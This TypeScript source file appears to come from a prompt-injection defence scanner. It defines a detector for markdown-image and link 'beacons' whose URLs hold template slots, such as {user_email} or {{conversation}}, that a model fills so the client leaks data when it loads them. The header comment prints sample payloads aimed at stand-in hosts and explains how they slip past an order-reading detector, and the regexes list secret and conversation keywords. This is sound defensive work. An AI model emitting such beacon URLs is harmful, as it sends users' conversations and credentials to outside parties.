/**
 * A self-filling beacon (issue 20, break-it round: markdown-image exfiltration with template
 * placeholders): an image the chat client fetches by itself, or a link, whose URL holds a
 * template slot for the model to fill — `![](https://x.example/p?d={user_email})`,
 * `<img src="https://t.example/a?c={{conversation}}">`, `![chart][1]` with
 * `[1]: https://log.example/i?h=$CONVERSATION`. The model renders the answer, the client loads
 * the image and the filled slot leaves with the request; no order is needed, so the
 * order-reading `detector.exfil` does not see it. The shape is the finding:
 *
 * | carrier | slot needed |
 * | --- | --- |
 * | a markdown image `![alt](url)`, an HTML `<img src=url>`, a reference definition `[id]: url` | any template slot in the URL's query or fragment, or a slot naming data anywhere in it (`{name}`, `{{ name }}`, `${NAME}`, `$NAME`, `%NAME%`, `<name>`, `[NAME]`, URL-encoded braces) |
 * | a markdown link `[text](url)` or a bare `https://…` URL | a slot naming the user's data or the conversation (`email`, `secret`, `token`, `conversation`, `history`, `prompt`, …) |
 *
 * A slot inside a code region (a fence, `<pre>`, `<code>`: a template shown as a format) is not
 * read. Linear: one pass of each regex, a bounded URL per match, code regions by one pass.
 */
import type { Detector, DetectorMatch } from "../detector.js";
import type { Shadow } from "../shadow.js";
import { codeRegions, regionAt } from "./code-fences.js";
import { EXFIL_DETECTOR_ID } from "./exfil.js";

/** The carriers: group 1 the URL of an image or a reference definition, group 2 of a link, group 3 of a bare URL. */
const CARRIER =
  /!\[[^\]\n]{0,120}\]\([ \t]{0,4}<?([^\s)>]{1,2000})|<img\b[^<>]{0,500}?\bsrc[ \t]{0,4}=[ \t]{0,4}["']?([^\s"'<>]{1,2000})|^[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]{0,4}<?([^\s>]{1,2000})|\[[^\]\n]{1,120}\]\([ \t]{0,4}<?((?:https?:)?\/\/[^\s)>]{1,2000})|(https?:\/\/[^\s<>"'`)\]]{1,2000})/gim;
/** A template slot in a URL, with its name in one of the groups. */
const SLOT =
  /\{\{[ \t]{0,4}([A-Za-z_][\w.-]{0,40})[ \t]{0,4}\}\}|\{([A-Za-z_][\w.-]{0,40})\}|\$\{([A-Za-z_][\w.]{0,40})\}|\$([A-Z][A-Z0-9_]{1,40})(?![a-z])|%([A-Z][A-Z0-9_]{1,40})%|<([A-Za-z_][\w-]{0,40})>|\[([A-Z][A-Z0-9_]{1,40})\]|%7B(?:%7B)?([A-Za-z_][\w.-]{0,40})%7D/gi;
/**
 * A slot name that is the user's data, a secret or the conversation. Not `id`, `key`, `token`,
 * `query`: an API reference writes `https://api.example/users/{id}?api_key={key}`.
 */
const DATA_SLOT =
  /e-?mail|phone|address|secret|password|passwd|credential|session|cookie|conversation|convo|history|chat|messages|prompt|context|memory|ssn|card_?num|iban|summary|transcript/i;

/** Cheap trigger atoms (regex sources, case-insensitive): a URL or an image. */
export const BEACON_TRIGGER: readonly string[] = ["https?:", "!\\[", "<img", "\\]:"];

/** The slot names in `url` (at most 8). */
function slots(url: string): string[] {
  const out: string[] = [];
  SLOT.lastIndex = 0;
  for (let m = SLOT.exec(url); m !== null && out.length < 8; m = SLOT.exec(url)) out.push(m.slice(1).find((g) => g !== undefined) ?? "");
  return out;
}

/**
 * The detector (finding id `detector.exfil`, category `data-exfiltration`). Pure, never throws
 * on a string, linear time.
 *
 * @example
 * createEvidenceScanner({ detectors: [BEACON_DETECTOR] }).scan("![](https://x.example/p?d={user_email})").findings[0].id;
 * // "detector.exfil"
 */
export const BEACON_DETECTOR: Detector = {
  id: EXFIL_DETECTOR_ID,
  detect(text: string, _shadow: Shadow): readonly DetectorMatch[] {
    const out: DetectorMatch[] = [];
    let regions: ReturnType<typeof codeRegions> | null = null;
    CARRIER.lastIndex = 0;
    for (let m = CARRIER.exec(text); m !== null; m = CARRIER.exec(text)) {
      const image = m[1] ?? m[2] ?? m[3];
      const url = image ?? m[4] ?? m[5] ?? "";
      const names = slots(url);
      if (names.length === 0) continue;
      // An image fetches itself: a slot in its query or fragment, or one naming data, is enough;
      // a slot in its path alone (`/badge/{branch}.svg`) is a template's own parameter.
      const query = url.search(/[?#]/);
      const inQuery = query >= 0 && slots(url.slice(query)).length > 0;
      if (!names.some((n) => DATA_SLOT.test(n)) && (image === undefined || !inQuery)) continue;
      regions ??= codeRegions(text);
      if (regionAt(regions, m.index) !== null) continue;
      const end = m.index + m[0].length + (text.charAt(m.index + m[0].length) === ")" ? 1 : 0);
      const prev = out[out.length - 1];
      if (prev !== undefined && m.index <= prev.end) {
        out[out.length - 1] = { ...prev, end: Math.max(prev.end, end) };
        continue;
      }
      out.push({
        start: m.index,
        end,
        category: "data-exfiltration",
        score: 0.9,
        reason: image !== undefined ? "an image or reference URL with a template slot the model would fill (the client fetches it by itself)" : "a link whose URL has a slot for the user's data or the conversation",
        action: "wrap",
      });
    }
    return out;
  },
};

/** Every regex this detector runs on attacker text (for the linear-time proofs). */
export const BEACON_PATTERNS: readonly RegExp[] = [CARRIER, SLOT, DATA_SLOT];
